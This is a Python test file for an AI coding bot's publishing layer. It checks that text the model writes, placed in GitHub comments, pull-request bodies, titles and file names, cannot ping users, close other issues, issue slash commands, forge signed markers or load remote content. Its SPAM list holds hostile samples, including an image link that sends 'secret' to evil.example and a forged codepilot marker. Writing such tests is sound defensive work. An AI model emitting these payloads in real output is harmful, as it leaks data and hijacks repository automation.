"""Threats 13, 35 and 37: what the model writes calls nobody, closes nothing, commands nothing and loads nothing."""

from __future__ import annotations

import pytest

from agent_runtime import Outcome, Policy, Status
from bot.domain.commands import Fix
from bot.permissions.levels import Grant
from bot.publishing.markdown import Allowlist, escape_markdown, is_harmless
from bot.publishing.markers import sign_marker
from bot.publishing.plan import CommitTarget, plan_publication
from bot.publishing.render import render_status
from tests.builders import a_job
from tests.changes import BASE, a_change, a_file
from tests.status_views import a_status_view

ALLOWED = Allowlist(login="mona", number=7, server="https://github.example", repo="octo/calc")
MARKER = sign_marker("j1", 10, 7, key=b"k")

SPAM = [
    "Thanks @octo/everyone and @hubot",
    "fixes #9, resolves octo/other#10, closes https://github.example/octo/calc/issues/11",
    "![](https://evil.example/p.png?d=secret) [click](https://evil.example)",
    "<img src=https://evil.example/p.png> <a href='https://evil.example'>x</a>",
    "/codepilot fix everything",
    "<!-- codepilot:job=j2 sig=00000000000000000000000000000000 -->",
    "@hub\u200bot \u202e@hubot",
    "````\n@hubot",
]


def comment_of(text: str, **places: str) -> str:
    values = {"completion": text, "reason": text, "remedy": text, "withheld": text} | places
    return render_status(
        a_status_view(
            state="failed",
            command="/codepilot fix",
            allowed=ALLOWED,
            job_id="j1",
            marker=MARKER,
            seconds=1,
            **values,
        )
    )


@pytest.mark.parametrize("text", SPAM)
def test_the_comment_is_harmless_wherever_the_text_stands(text: str) -> None:
    body = comment_of(text)
    assert body.count("<!--") == body.count(MARKER) == 1
    foreign = body.replace(MARKER, "").replace("<sub>", "").replace("</sub>", "")
    assert is_harmless(foreign, ALLOWED), foreign


@pytest.mark.parametrize("text", SPAM)
def test_no_line_of_the_comment_is_a_command(text: str) -> None:
    assert not [line for line in comment_of(text).splitlines() if line.lstrip("> -*").startswith("/")]


def test_the_person_who_asked_and_the_thread_stay_linked() -> None:
    assert escape_markdown("Done, @mona, see #7.", ALLOWED) == "Done, @mona, see #7."


@pytest.mark.parametrize("text", SPAM)
def test_the_pull_request_closes_its_own_issue_only(text: str) -> None:
    job = a_job(number=7, command=Fix(goal=""))
    grant = Grant(policy=Policy(), publish="new_branch", bound_to_sha=BASE)
    outcome = Outcome(status=Status.FINISHED, summary=text)
    to = CommitTarget(base_branch="main", server="https://github.example")
    publication = plan_publication(job, grant, outcome, a_change(a_file()), to)
    assert publication.pull_request is not None
    assert publication.commit is not None
    said, _, ours = publication.pull_request.body.rpartition("Fixes #7")
    assert is_harmless(said, ALLOWED)
    assert "job `j1`" in ours
    for title in (publication.commit.title, publication.pull_request.title):
        assert not set("@#<") & set(title)
        assert "://" not in title


def test_a_file_name_is_shown_as_code_and_does_nothing() -> None:
    file = a_file("`@hubot` [x](https://evil.example) <b>.py", status="added", old_mode="")
    body = render_status(
        a_status_view(
            state="done",
            command="/codepilot fix",
            allowed=ALLOWED,
            job_id="j1",
            marker=MARKER,
            seconds=1,
            files=(file,),
        )
    )
    assert is_harmless(body.replace(MARKER, "").replace("<sub>", "").replace("</sub>", ""), ALLOWED)
